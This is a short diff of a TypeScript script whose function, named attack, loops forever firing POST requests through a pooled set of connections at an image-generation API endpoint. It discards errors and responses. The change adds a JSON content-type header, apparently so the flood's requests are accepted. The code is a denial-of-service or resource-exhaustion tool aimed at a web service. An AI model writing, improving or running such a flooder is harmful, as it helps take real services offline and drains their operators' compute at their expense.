@@ -19,7 +19,12 @@ const pool = new Pool(origin, { connections: CONNECTIONS });
 async function attack(): Promise<void> {
   for (;;) {
     const answer = await pool
-      .request({ method: 'POST', path: '/v1/index.php?endpoint=image_generation', headers, body })
+      .request({
+        method: 'POST',
+        path: '/v1/index.php?endpoint=image_generation',
+        headers: { ...headers, 'content-type': 'application/json' },
+        body,
+      })
       .catch(() => undefined);
     await answer?.body.dump().catch(() => undefined);
   }
